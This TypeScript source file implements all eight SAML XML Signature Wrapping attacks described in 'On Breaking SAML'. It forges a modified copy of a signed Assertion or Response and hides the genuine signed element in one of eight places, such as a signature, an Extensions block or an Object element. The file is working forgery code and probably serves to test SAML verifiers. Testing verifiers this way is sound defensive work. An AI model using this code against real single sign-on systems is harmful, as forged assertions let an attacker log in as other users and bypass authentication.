import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

export const WRAPPINGS = [1, 2, 3, 4, 5, 6, 7, 8] as const;
export type Wrapping = (typeof WRAPPINGS)[number];

const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';

/**
 * The eight signature wrapping attacks (Somorovsky et al., "On Breaking SAML"): the signed element stays in the document,
 * untouched and verifiable, but moves to where a reader does not look; a copy that says `evil` in place of `good` takes its place.
 * `element` is what the document's signature covers.
 */
export function wrapped(xml: string, wrapping: Wrapping, element: 'Assertion' | 'Response', [good, evil]: readonly [string, string]): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const signed = only(document, element);
  const forged = new DOMParser().parseFromString(new XMLSerializer().serializeToString(signed).replaceAll(good, evil), 'text/xml').documentElement;
  for (const [at, one] of [forged, ...Array.from(forged.getElementsByTagNameNS('*', 'Assertion'))].entries()) one.setAttribute('ID', `_evil${at}`);
  const copy = document.importNode(forged, true);
  place(document, signed, copy, wrapping);
  return new XMLSerializer().serializeToString(document);
}

function place(document: Document, signed: Element, forged: Element, wrapping: Wrapping): void {
  const signature = childNamed(signed, 'Signature');
  const own = childNamed(forged, 'Signature');
  signed.parentNode?.replaceChild(forged, signed); // the forged one now stands where the reader looks
  switch (wrapping) {
    case 1: // the signature moves to the forged element and holds the signed one
      forged.replaceChild(signature, own);
      signature.appendChild(signed);
      return;
    case 2: // the signed one stands detached before its signature
      forged.replaceChild(signature, own);
      forged.insertBefore(signed, signature);
      return;
    case 3: // the forged one stands before the signed one
      forged.removeChild(own);
      if (forged.parentNode === document) forged.insertBefore(signed, forged.firstChild);
      else forged.parentNode?.insertBefore(signed, forged.nextSibling);
      return;
    case 4: // the forged one holds the signed one
      forged.removeChild(own);
      forged.appendChild(signed);
      return;
    case 5: // the forged one keeps the signature; the signed one follows without it
      forged.replaceChild(signature, own);
      if (forged.parentNode === document) forged.appendChild(signed);
      else forged.parentNode?.appendChild(signed);
      return;
    case 6: { // as before, with the signed one inside the signature, behind the key
      forged.replaceChild(signature, own);
      signature.insertBefore(signed, signature.lastChild);
      return;
    }
    case 7: { // the signed one hides in Extensions
      forged.removeChild(own);
      const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
      extensions.appendChild(signed);
      const root = document.documentElement;
      root.insertBefore(extensions, root.firstChild);
      return;
    }
    case 8: { // the signed one hides in an Object of its own signature
      forged.replaceChild(signature, own);
      const object = document.createElementNS(SIGNATURE, 'ds:Object');
      object.appendChild(signed);
      signature.appendChild(object);
    }
  }
}

function only(document: Document, name: string): Element {
  const found = Array.from(document.getElementsByTagNameNS('*', name));
  const [first] = found;
  if (!first || found.length !== 1) throw new Error(`the document holds ${found.length} of ${name}`);
  return first;
}

function childNamed(parent: Element, name: string): Element {
  const found = Array.from(parent.childNodes).find((node) => node.nodeName.endsWith(`:${name}`));
  if (!found) throw new Error(`${parent.nodeName} has no ${name}`);
  return found as Element; // has a qualified name
}
